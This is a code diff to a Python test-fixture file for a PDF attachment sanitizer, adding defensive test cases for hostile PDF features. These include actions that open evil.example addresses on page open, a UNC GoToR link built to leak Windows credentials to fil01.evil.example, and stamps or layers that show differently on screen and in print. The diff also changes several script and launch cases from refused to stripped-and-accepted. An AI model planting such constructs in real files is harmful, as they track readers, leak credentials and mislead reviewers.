@@ -42,6 +42,9 @@ class Case:
     filename: str = "bilaga.pdf"
     content_type: str = "application/pdf"
     stored_name: str = ""  # the name a bilaga is kept under, when it is accepted
+    # Accepted without something (attest.pdf.inert): a phrase of what the handläggare is
+    # told was removed. "" when it is kept byte for byte.
+    removed: str = ""
 
     @property
     def data(self) -> bytes:
@@ -496,6 +499,84 @@ def inline_annotation() -> bytes:
     return simple_pdf(page_extra=b"/Annots [%s]" % annotation)
 
 
+# --- What a viewer shows differently from a printer, and actions the review found ----------
+
+GODKANT = b"BT /F1 28 Tf 10 15 Td (GODKANT) Tj ET"  # what an annotation draws
+STAMP_FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 200 50] /Resources %s" % RESOURCES
+
+
+def stamp(flags: int, *, extra: bytes = b"", page_extra: bytes = b"", rollover: bool = False):
+    """A page with a stamp annotation drawing GODKANT, with these annotation flags."""
+
+    def build() -> bytes:
+        objects = simple_objects(page_extra=b"/Annots [6 0 R] " + page_extra)
+        appearance = b"/AP << /N 7 0 R %s >>" % (b"/R 8 0 R" if rollover else b"")
+        objects[6] = b"<< /Type /Annot /Subtype /Stamp /Rect [300 600 500 650] /F %d %s %s >>" % (
+            flags,
+            appearance,
+            extra,
+        )
+        objects[7] = stream(GODKANT, STAMP_FORM)
+        if rollover:
+            objects[8] = stream(b"BT /F1 28 Tf 10 15 Td (AVSLAGET) Tj ET", STAMP_FORM)
+        return assemble(objects)
+
+    return build
+
+
+def uri_on_page_open() -> bytes:
+    """A page that opens a web address when shown (a tracker, or worse)."""
+    return simple_pdf(page_extra=b"/AA << /O << /S /URI /URI (https://evil.example/sett) >> >>")
+
+
+def unc_gotor_link() -> bytes:
+    """A link to a file on a UNC path: Windows sends the person's credentials to that host."""
+    return _with_annotation(
+        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /Border [0 0 0] "
+        b"/A << /S /GoToR /F (\\\\\\\\fil01.evil.example\\\\delat\\\\x.pdf) /D [0 /Fit] >> >>"
+    )
+
+
+def uri_open_action() -> bytes:
+    return simple_pdf(catalog_extra=b"/OpenAction << /S /URI /URI (https://evil.example/) >>")
+
+
+def hidden_stamp_revealed_on_open() -> bytes:
+    """A hidden annotation that an action of the page shows when the page is opened."""
+    return stamp(HIDDEN_AND_PRINT, page_extra=b"/AA << /O << /S /Hide /T 6 0 R /H false >> >>")()
+
+
+HIDDEN_AND_PRINT = 2 | 4
+
+
+def _layered(catalog_ocproperties: bytes, group: bytes = b"<< /Type /OCG /Name (Lager) >>"):
+    """A page whose line 'I LAGRET' is in an optional content group."""
+    objects = simple_objects(catalog_extra=b"/OCProperties " + catalog_ocproperties)
+    objects[3] = objects[3].replace(
+        b"/Resources " + RESOURCES,
+        b"/Resources << /Font << /F1 5 0 R >> /Properties << /L0 6 0 R >> >>",
+    )
+    objects[4] = stream(CONTENT + b"\n/OC /L0 BDC BT /F1 18 Tf 72 600 Td (I LAGRET) Tj ET EMC")
+    objects[6] = group
+    return assemble(objects)
+
+
+def layer_off_by_default() -> bytes:
+    return _layered(b"<< /OCGs [6 0 R] /D << /OFF [6 0 R] >> >>")
+
+
+def layer_printed_differently() -> bytes:
+    return _layered(
+        b"<< /OCGs [6 0 R] /D << /AS [<< /Event /Print /OCGs [6 0 R] /Category [/Print] >>] >> >>",
+        b"<< /Type /OCG /Name (Lager) /Usage << /Print << /PrintState /OFF >> >> >>",
+    )
+
+
+def layer_always_on() -> bytes:
+    """Layers as a drawing program exports them, all on: looks the same everywhere."""
+    return _layered(b"<< /OCGs [6 0 R] /D << /ON [6 0 R] >> >>")
+
+
 # --- Other formats, polyglots, sizes ----------------------------------------------------------
 
 
@@ -569,6 +650,10 @@ DAMAGED = "kan inte läsas som PDF"
 NOT_PDF = "är inte en PDF"
 ENCRYPTED = "krypterad"
 ACTIVE = "aktivt innehåll"
+LAYERS = "har lager (valfritt innehåll)"
+OPEN_ACTIONS = "åtgärder som körs när dokumentet eller en sida öppnas"
+LINKS = "länkar (klickbara områden)"
+VIEW_DEPENDENT = "bara syns på skärmen eller bara vid utskrift"
 UNREADABLE = "Filen kunde inte läsas som PDF"
 NOT_PDF_VERIFY = "Filen är inte en PDF"
 ENCRYPTED_VERIFY = "Filen är krypterad"
@@ -655,26 +740,100 @@ def cases() -> list[Case]:
         Case("huge_mediabox", huge_mediabox, REFUSED, "sidstorlek", REPORT, UNSIGNED),
         Case("degenerate_mediabox", degenerate_mediabox, REFUSED, "sidstorlek", REPORT, UNSIGNED),
         Case("garbage_mediabox", garbage_mediabox, REFUSED, "sidstorlek", REPORT, UNSIGNED),
-        # Active content
-        Case("javascript_open_action", javascript_open_action, REFUSED, ACTIVE, REPORT, UNSIGNED),
-        Case("javascript_in_names", javascript_in_names, REFUSED, ACTIVE, REPORT, UNSIGNED),
-        Case("javascript_in_link", javascript_in_link, REFUSED, ACTIVE, REPORT, UNSIGNED),
-        Case("javascript_on_page_open", javascript_on_page_open, REFUSED, ACTIVE, REPORT, UNSIGNED),
-        Case("launch_action", launch_action, REFUSED, ACTIVE, REPORT, UNSIGNED),
-        Case("submit_form_action", submit_form_action, REFUSED, ACTIVE, REPORT, UNSIGNED),
+        # Active content: actions are removed; embedded files and XFA refuse the file
+        Case(
+            "javascript_open_action",
+            javascript_open_action,
+            ACCEPTED,
+            verify_says=UNSIGNED,
+            removed=OPEN_ACTIONS,
+        ),
+        Case(
+            "javascript_in_names",
+            javascript_in_names,
+            ACCEPTED,
+            verify_says=UNSIGNED,
+            removed="JavaScript",
+        ),
+        Case(
+            "javascript_in_link", javascript_in_link, ACCEPTED, verify_says=UNSIGNED, removed=LINKS
+        ),
+        Case(
+            "javascript_on_page_open",
+            javascript_on_page_open,
+            ACCEPTED,
+            verify_says=UNSIGNED,
+            removed=OPEN_ACTIONS,
+        ),
+        Case("launch_action", launch_action, ACCEPTED, verify_says=UNSIGNED, removed=LINKS),
+        Case(
+            "submit_form_action",
+            submit_form_action,
+            ACCEPTED,
+            verify_says=UNSIGNED,
+            removed=OPEN_ACTIONS,
+        ),
         Case("embedded_file", embedded_file, REFUSED, ACTIVE, REPORT, UNSIGNED),
+        # Shown on screen only: removed, and the embedded file with it.
         Case(
             "file_attachment_annotation",
             file_attachment_annotation,
+            ACCEPTED,
+            verify_says=UNSIGNED,
+            removed=VIEW_DEPENDENT,
+        ),
+        Case("xfa_form", xfa_form, REFUSED, ACTIVE, REPORT, UNSIGNED),
+        Case("uri_link", uri_link, ACCEPTED, verify_says=UNSIGNED, removed=LINKS),
+        Case("inline_annotation", inline_annotation, ACCEPTED, verify_says=UNSIGNED, removed=LINKS),
+        # What the review found: actions that open addresses and files, view-dependent content
+        Case(
+            "uri_on_page_open",
+            uri_on_page_open,
+            ACCEPTED,
+            verify_says=UNSIGNED,
+            removed=OPEN_ACTIONS,
+        ),
+        Case("unc_gotor_link", unc_gotor_link, ACCEPTED, verify_says=UNSIGNED, removed=LINKS),
+        Case(
+            "uri_open_action",
+            uri_open_action,
+            ACCEPTED,
+            verify_says=UNSIGNED,
+            removed=OPEN_ACTIONS,
+        ),
+        Case(
+            "print_only_stamp",
+            stamp(4 | 32),
+            ACCEPTED,
+            verify_says=UNSIGNED,
+            removed=VIEW_DEPENDENT,
+        ),
+        Case("screen_only_stamp", stamp(0), ACCEPTED, verify_says=UNSIGNED, removed=VIEW_DEPENDENT),
+        Case(
+            "hidden_stamp_revealed_on_open",
+            hidden_stamp_revealed_on_open,
+            ACCEPTED,
+            verify_says=UNSIGNED,
+            removed="dolda anteckningar",
+        ),
+        Case(
+            "rollover_stamp",
+            stamp(4, rollover=True),
+            ACCEPTED,
+            verify_says=UNSIGNED,
+            removed="under muspekaren",
+        ),
+        Case("printed_stamp", stamp(4), ACCEPTED, verify_says=UNSIGNED),
+        Case("layer_off_by_default", layer_off_by_default, REFUSED, LAYERS, REPORT, UNSIGNED),
+        Case(
+            "layer_printed_differently",
+            layer_printed_differently,
             REFUSED,
-            ACTIVE,
+            LAYERS,
             REPORT,
             UNSIGNED,
         ),
-        Case("xfa_form", xfa_form, REFUSED, ACTIVE, REPORT, UNSIGNED),
-        Case("uri_link", uri_link, ACCEPTED, verify_says=UNSIGNED),
-        # Moved into objects of their own when appended (attest.pdf.merge).
-        Case("inline_annotation", inline_annotation, ACCEPTED, verify_says=UNSIGNED),
+        Case("layer_always_on", layer_always_on, ACCEPTED, verify_says=UNSIGNED),
         # Other formats and polyglots
         # Kept as sent, served only as a PDF download (nosniff); pyHanko refuses the header.
         Case("html_then_pdf", html_then_pdf, ACCEPTED, verify=UNUSABLE, verify_says=UNREADABLE),
